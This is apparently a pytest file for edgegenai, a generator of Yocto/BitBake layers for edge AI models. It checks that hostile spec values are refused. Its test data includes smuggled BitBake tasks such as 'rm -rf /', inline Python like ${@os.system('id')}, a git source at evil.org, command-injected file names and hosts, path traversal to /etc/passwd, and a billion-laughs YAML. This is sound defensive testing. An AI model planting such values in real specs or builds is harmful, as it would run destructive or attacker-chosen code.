"""Hostile values: every string field refuses what could change a generated file's meaning.

Each row of the first table sets one field to one hostile value (quotes,
newlines, `${@...}`, `;`, `..`, huge, empty, ...) in an otherwise valid
spec.  The value is refused with a problem naming that field, or it is one
of the few a field accepts on purpose (listed in ACCEPTED), whose rendering
the fuzz test checks.  The second table is the list of defects found when
the spec was first treated as untrusted input, each through the CLI: one
line naming the field, exit 2, nothing written.
"""

from __future__ import annotations

import subprocess
import sys

import pytest

from edgegenai.errors import SpecError
from edgegenai.render import render
from edgegenai.spec import parse_spec

from hostile import BASE, HOSTILE, STRING_FIELDS, names_field, with_value

# (field, kind) pairs a field accepts: harmless text where they land.
ACCEPTED = {
    (field, kind) for field in ("models[0].summary", "image.gate.prompt")
    for kind in ("single-quote", "semicolon", "shell", "dotdot", "path", "percent")
} | {("models[0].license_flags", "empty"), ("models[0].source", "empty")}

CASES = [(f, k) for f in STRING_FIELDS for k in HOSTILE]


def test_the_base_spec_is_valid(catalog):
    assert render(parse_spec(BASE, catalog), catalog)


@pytest.mark.parametrize("field,kind", CASES, ids=[f"{f}={k}" for f, k in CASES])
def test_hostile_value_is_refused_naming_its_field(catalog, field, kind):
    raw = with_value(field, HOSTILE[kind])
    if (field, kind) in ACCEPTED:
        files = render(parse_spec(raw, catalog), catalog)
        assert any(HOSTILE[kind] in text for text in files.values())
        return
    with pytest.raises(SpecError) as err:
        parse_spec(raw, catalog)
    problems = err.value.problems
    assert names_field(problems, field), problems
    assert all("\n" not in p and "\r" not in p and len(p) < 600 for p in problems), problems


def run(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "edgegenai", *args], capture_output=True, text=True, cwd=cwd)


MODEL = dict(BASE["models"][0])


def _model(**change):
    return {"boards": ["qemuarm64"], "models": [dict(MODEL, **change)]}


DEFECTS = [
    # BitBake injection through a model's fields
    ("licence with a quote and a task", _model(license='MIT"\ndo_install:append() {\n rm -rf /\n}\nX = "'),
     "models[0].license: must be a licence expression"),
    ("inline Python in the homepage", _model(homepage="https://x.org/${@bb.utils.which('sh')}"),
     "models[0].homepage: must be an https or http URL"),
    ("an extra git source through url parameters",
     _model(url="https://x.org/m.gguf;name=m git://evil.org/x;branch=main"), "models[0].url: must be an https URL"),
    ("AUTOREV through the version", _model(version='1"\nSRCREV = "${AUTOREV}'), "models[0].version: must be a version"),
    ("subdir=../../ through the url", _model(url="https://x.org/m.gguf;subdir=../../"), "models[0].url:"),
    ("licence flags with a newline", _model(license_flags="commercial\nLICENSE = \"MIT\""), "models[0].license_flags:"),
    ("lic_files_chksum outside S", _model(lic_files_chksum="file://../../../etc/passwd;md5=" + "0" * 32),
     "models[0].lic_files_chksum:"),
    ("summary with an expansion", _model(summary="${@os.system('id')}"), "models[0].summary:"),
    # Shell injection on the device
    ("model file name with a command", _model(filename="m.gguf; touch /tmp/pwned"), "models[0].filename:"),
    ("host with a command", {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"server": {"host": "127.0.0.1; id"}}}},
     "engines.llama-cpp.server.host: must be an IP address"),
    ("host with LD_PRELOAD", {"boards": ["qemuarm64"],
                              "engines": {"llama-cpp": {"server": {"host": "127.0.0.1\nLD_PRELOAD=/tmp/x.so"}}}},
     "engines.llama-cpp.server.host: must be an IP address"),
    # Paths out of the output directory
    ("version that climbs", _model(version="../../.."), "models[0].version:"),
    ("file name with a slash", _model(filename="../m.gguf"), "models[0].filename:"),
    ("empty file name", _model(filename=""), "models[0].filename:"),
    # An open API
    ("every address without a key", {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"server": {"host": "0.0.0.0"}}}},
     "engines.llama-cpp.server.host: 0.0.0.0 is not a loopback address"),
    ("IPv6 any without a key", {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"server": {"host": "::"}}}},
     "engines.llama-cpp.server.host: :: is not a loopback address"),
    ("a host name", {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"server": {"host": "device.local"}}}},
     "engines.llama-cpp.server.host: must be an IP address"),
    ("127.0.0.2 is loopback but an allow-list is for the LAN",
     {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"server": {"host": "127.0.0.2", "allow": ["any"]}}}},
     "engines.llama-cpp.server.allow: only for a server on a network address"),
    ("a key but no allow-list",
     {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"server": {"host": "10.0.0.2", "auth": "api-key"}}}},
     "engines.llama-cpp.server.allow: required with host 10.0.0.2"),
    ("an allow-list that is no network",
     {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"server": {"host": "10.0.0.2", "auth": "api-key",
                                                                     "allow": ["10.0.0.0/8; id"]}}}},
     "engines.llama-cpp.server.allow[0]: must be an IP network"),
    # Names too long for a file system, and smaller things
    ("300-character image name", {"boards": ["qemuarm64"], "image": {"name": "a" * 300}},
     "image.name: must be at most 64 characters"),
    ("300-character model name", _model(name="m" * 300), "models[0].name: must be at most 64 characters"),
    ("5000-character project name", {"boards": ["qemuarm64"], "project": "p" * 5000},
     "project: must be at most 32 characters"),
    ("port: true", {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"server": {"port": True}}}},
     "engines.llama-cpp.server.port: must be a whole number"),
    ("port as a string", {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"server": {"port": "8080"}}}},
     "engines.llama-cpp.server.port: must be a whole number"),
    ("negative size", _model(size=-1), "models[0].size: must be greater than or equal to 1"),
    ("image named like a recipe of the layer", {"boards": ["qemuarm64"], "image": {"name": "llama-cpp"}},
     "image.name: 'llama-cpp' is the name of a recipe of the layer"),
    ("image named like a model recipe", {"boards": ["qemuarm64"],
                                         "image": {"name": "model-smollm2-360m-instruct-q4-k-m"}},
     "image.name: 'model-smollm2-360m-instruct-q4-k-m' is the name of a recipe of the layer"),
    ("a feature twice", {"boards": ["qemuarm64"], "image": {"features": ["ssh", "ssh"]}},
     "image.features: feature 'ssh' is named twice"),
    ("a backend twice", {"boards": ["qemuarm64"], "engines": {"llama-cpp": {"backends": ["openmp", "openmp"]}}},
     "engines.llama-cpp.backends: backend 'openmp' is named twice"),
    ("an engine key with a newline", {"boards": ["qemuarm64"], "engines": {"llama-cpp\nx": {}}},
     "engines['llama-cpp\\nx'] (key): must be a name"),
    ("the cause first: an unknown model, not 'no model for engine'", {"boards": ["qemuarm64"], "models": ["nope"]},
     "models[0]: unknown model 'nope'"),
]


@pytest.mark.parametrize("what,raw,expected", DEFECTS, ids=[d[0] for d in DEFECTS])
def test_defect_is_one_line_exit_2_nothing_written(tmp_path, what, raw, expected):
    import yaml
    spec = tmp_path / "spec.yaml"
    spec.write_text(yaml.safe_dump(raw, allow_unicode=True))
    out = tmp_path / "out"
    result = run("generate", str(spec), "-o", str(out))
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith(f"edgegenai: error: {expected}"), lines
    assert "Traceback" not in result.stderr and not out.exists()


BAD_FILES = [
    ("binary", bytes(range(256)) * 8, "the file holds NUL bytes"),
    ("utf-16", "boards: [qemuarm64]\n".encode("utf-16"), "the file is UTF-16; save it as UTF-8"),
    ("latin-1", "project: caf\xe9\nboards: [qemuarm64]\n".encode("latin-1"), ":1: not valid UTF-8 (byte 0xe9)"),
    ("nested thousands deep", b"boards: " + b"[" * 5000 + b"]" * 5000 + b"\n", "nested deeper than 32 levels"),
    ("duplicate keys", b"boards: [qemuarm64]\nboards: [qemux86-64]\n",
     ":2: key 'boards' appears twice in one mapping (first on line 1)"),
    ("aliases", b"x: &a [qemuarm64]\nboards: *a\n", ":1: anchors (&name) are not allowed"),
    ("a billion laughs", b"a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "anchors (&name) are not allowed"),
    ("50 MB", b"# " + b"x" * (50 * 1024 * 1024) + b"\nboards: [qemuarm64]\n", "larger than 1048576 bytes"),
    ("not a mapping", b"- qemuarm64\n", "a spec is a YAML mapping"),
    ("a board that is a number", b"boards: [5]\n",
     "boards[0]: must be a board name or a mapping with `name` and its other fields"),
]


@pytest.mark.parametrize("what,data,expected", BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_bad_spec_file_is_one_line_exit_2(tmp_path, what, data, expected):
    spec = tmp_path / "spec.yaml"
    spec.write_bytes(data)
    result = run("generate", str(spec), "-o", str(tmp_path / "out"))
    assert result.returncode == 2
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and expected in lines[0], lines
    assert "Traceback" not in result.stderr and not (tmp_path / "out").exists()


def test_output_errors_are_one_line_exit_2(tmp_path):
    (tmp_path / "file").write_text("x")
    result = run("generate", "-o", str(tmp_path / "file" / "out"))
    assert result.returncode == 2 and "Not a directory" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    (tmp_path / "proj").mkdir()
    (tmp_path / "proj/meta-edgegenai").write_text("mine\n")
    result = run("generate", "-o", str(tmp_path / "proj"))
    assert result.returncode == 2 and "meta-edgegenai: is in the way" in result.stderr
    assert (tmp_path / "proj/meta-edgegenai").read_text() == "mine\n"


def test_generate_keeps_the_users_kas_file(tmp_path):
    assert run("generate", "-o", str(tmp_path)).returncode == 0
    (tmp_path / "kas/my-product.yml").write_text("header:\n  version: 14\n")
    again = run("generate", "-o", str(tmp_path))
    assert again.returncode == 0 and "kept  kas/my-product.yml" in again.stdout
    assert "1 of your own kept" in again.stdout
    assert (tmp_path / "kas/my-product.yml").exists()
